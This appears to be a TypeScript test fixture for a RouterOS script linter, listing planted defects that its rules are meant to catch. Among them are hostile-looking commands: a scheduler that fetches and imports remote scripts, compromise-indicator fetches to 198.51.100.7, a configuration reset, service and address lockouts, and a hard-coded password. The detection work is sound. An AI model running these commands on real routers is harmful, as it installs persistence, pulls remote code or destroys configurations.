import { add, alone, mayNotRun, type Defect } from './defect';

/** What scripts do, and secrets in them. */
export const scriptDefects: readonly Defect[] = [
  { rule: 'fetch-no-certificate-check', planted: '/tool fetch url="https://example.com/list.txt" dst-path=list.txt' },
  { rule: 'fetch-plaintext-url', planted: '/tool fetch url="http://example.com/list.txt" dst-path=list.txt' },
  {
    rule: 'fetch-then-import',
    planted: '/tool fetch url="https://example.com/a.rsc" check-certificate=yes dst-path=a.rsc\n/import a.rsc',
  },
  {
    rule: 'scheduler-persistence-pattern',
    planted:
      '/system scheduler add name=U6 interval=10m on-event="/tool fetch url=http://example.com/p mode=http dst-path=i.rsc;:delay 6s;/import i.rsc"',
  },
  { rule: 'secret-printed-or-logged', planted: ':local adminPassword "x"\n:put $adminPassword', into: alone },
  {
    rule: 'script-no-permissions',
    planted: add('/system/script', 'name=other', 'dont-require-permissions=yes', 'source=":put 1"'),
  },
  { rule: 'destructive-command', planted: '/system reset-configuration no-defaults=yes' },
  {
    rule: 'fetch-credentials-literal',
    planted: '/tool fetch url="sftp://10.0.0.1/backup" upload=yes src-path=a.backup user=router password=Sommer2019',
  },
  {
    rule: 'lockout-mgmt-service-disabled',
    planted: '/ip service disable ssh,winbox,www,www-ssl,api,api-ssl',
    except: mayNotRun,
  },
  { rule: 'lockout-address-change', planted: '/ip address remove [find]' },
  {
    rule: 'secret-variable-unassigned',
    planted: add('/user', 'name=planted', 'group=read', 'password=$nowhere'),
    except: /^in a function$/,
  },
  {
    rule: 'compromise-indicator',
    planted: add('/system/script', 'name=script3_', 'source=":put 1"'),
  },
  { rule: 'compromise-indicator', planted: '/tool fetch url="http://198.51.100.7/mikrotik.php" mode=http' },
  {
    rule: 'compromise-indicator',
    planted:
      '/system scheduler add name=update interval=1h on-event="/tool fetch address=198.51.100.7 src-path=mikrotik.php mode=http"',
  },
  {
    rule: 'script-overbroad-policy',
    planted: add('/system/script', 'name=reads', 'source=":put [/system resource get uptime]"'),
    preset: 'strict',
  },
  {
    rule: 'script-overbroad-policy',
    planted: add('/system/scheduler', 'name=reads', 'interval=1h', 'on-event=":put [/system identity get name]"'),
    preset: 'strict',
  },
  {
    rule: 'script-overbroad-policy',
    planted: add(
      '/system/script',
      'name=reads',
      'policy=ftp,reboot,read,write,policy,test,password,sniff,sensitive,romon',
      'source=":put [/system resource get uptime]"',
    ),
    preset: 'strict',
  },
  {
    rule: 'no-safe-mode',
    planted:
      '/ip firewall filter\nremove [find]\nadd chain=input action=accept connection-state=established,related\nadd chain=input action=drop in-interface-list=!LAN',
    preset: 'strict',
    except: mayNotRun,
  },
  { rule: 'no-safe-mode', planted: '/ip address remove [find]', preset: 'strict', except: mayNotRun },
  {
    rule: 'no-safe-mode',
    planted: '/interface bridge set bridge vlan-filtering=yes',
    preset: 'strict',
    except: mayNotRun,
  },
  { rule: 'no-safe-mode', planted: '/ip service disable [find]', preset: 'strict', except: mayNotRun },
  {
    rule: 'not-idempotent',
    planted: add('/ip/pool', 'name=planted', 'ranges=10.0.0.10-10.0.0.99'),
    into: alone,
    preset: 'strict',
    except: mayNotRun,
  },
  {
    rule: 'not-idempotent',
    planted: add('/ip/firewall/filter', 'chain=forward', 'action=drop', 'protocol=tcp', 'dst-port=25'),
    into: alone,
    preset: 'strict',
    except: mayNotRun,
  },
  {
    rule: 'not-idempotent',
    planted: add('/interface/list', 'name=PLANTED'),
    into: alone,
    preset: 'strict',
    except: mayNotRun,
  },
];
